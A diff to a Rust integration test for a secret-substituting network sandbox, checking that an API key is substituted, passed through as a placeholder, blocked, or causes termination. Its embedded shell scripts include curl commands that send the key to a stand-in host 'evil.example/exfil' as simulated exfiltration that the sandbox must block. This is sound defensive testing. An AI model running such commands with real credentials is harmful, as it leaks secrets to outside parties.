@@ -731,8 +731,9 @@ fn curl_layout(dir: &Path) -> PathBuf {
 
 #[test]
 #[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
-fn secrets_are_substituted_and_violations_blocked_inside_an_image_sandbox() {
+fn secrets_keep_all_four_outcomes_inside_an_image_sandbox() {
     const VALUE: &str = "sk-image-test-0123456789";
+    const PH: &str = "$MSB_OPENAI_API_KEY";
     let net = FakeInternet::with_http(&[80], &[443]);
     let reg = Registry::start(&net);
     let work = tempfile::tempdir().unwrap();
@@ -747,19 +748,25 @@ fn secrets_are_substituted_and_violations_blocked_inside_an_image_sandbox() {
         &["pull", "--registry-ca", &ca, &image("curl:1")],
     );
     assert!(o.status.success(), "{}", report(&o, &net));
+    let sandbox = |extra: &[&str], script: &str| {
+        run(Command::new("ip")
+            .args(["netns", "exec", &net.client, support::standin_bin(), "run"])
+            .args(["--image", &image("curl:1"), "--upstream-ca", &ca])
+            .args(["--secret", "OPENAI_API_KEY@api.openai.com"])
+            .args(extra)
+            .args(["--", "sh", "-c", script])
+            .env("STANDIN_HOME", home.path())
+            .env("OPENAI_API_KEY", VALUE))
+    };
+    // Substitute, pass through, block.
     let script = r#"test ! -e /usr/bin/python3 && echo image-root; \
         curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models; \
+        curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "X-Trace: $OPENAI_API_KEY" https://traces.example/v1/traces; \
         curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://evil.example/ 2>/dev/null || echo blocked"#;
-    let o = run(Command::new("ip")
-        .args(["netns", "exec", &net.client, support::standin_bin(), "run"])
-        .args(["--image", &image("curl:1"), "--upstream-ca", &ca])
-        .args(["--secret", "OPENAI_API_KEY@api.openai.com", "--"])
-        .args(["sh", "-c", script])
-        .env("STANDIN_HOME", home.path())
-        .env("OPENAI_API_KEY", VALUE));
+    let o = sandbox(&["--secret-passthrough", "traces.example"], script);
     assert_eq!(
         stdout(&o),
-        "image-root\n200\nblocked\n",
+        "image-root\n200\n200\nblocked\n",
         "{}",
         report(&o, &net)
     );
@@ -769,6 +776,25 @@ fn secrets_are_substituted_and_violations_blocked_inside_an_image_sandbox() {
             .contains(&format!("authorization: bearer {VALUE}\r\n")),
         "{got}"
     );
+    let traces = net.received_at(support::TRACES_V4);
+    assert!(
+        traces
+            .to_ascii_lowercase()
+            .contains(&format!("x-trace: {}", PH.to_ascii_lowercase())),
+        "{traces}"
+    );
+    // Block and terminate: the whole image sandbox goes, nothing after the violation runs.
+    let script = r#"curl -sS -m 5 -o /dev/null -H "X: $OPENAI_API_KEY" https://evil.example/exfil 2>/dev/null; \
+        echo survived; curl -sS -m 5 https://api.openai.com/after-terminate"#;
+    let o = sandbox(&["--on-secret-violation", "block-and-terminate"], script);
+    assert_eq!(o.status.code(), Some(99), "{}", report(&o, &net));
+    assert!(!stdout(&o).contains("survived"), "{}", report(&o, &net));
+    assert!(stderr(&o).contains("terminated"), "{}", report(&o, &net));
+    let all = net.received();
     let evil = net.received_at(support::EVIL_V4);
     assert!(!evil.contains(VALUE) && !evil.contains("MSB_"), "{evil}");
+    assert!(
+        !all.contains("/exfil") && !all.contains("/after-terminate"),
+        "{all}"
+    );
 }
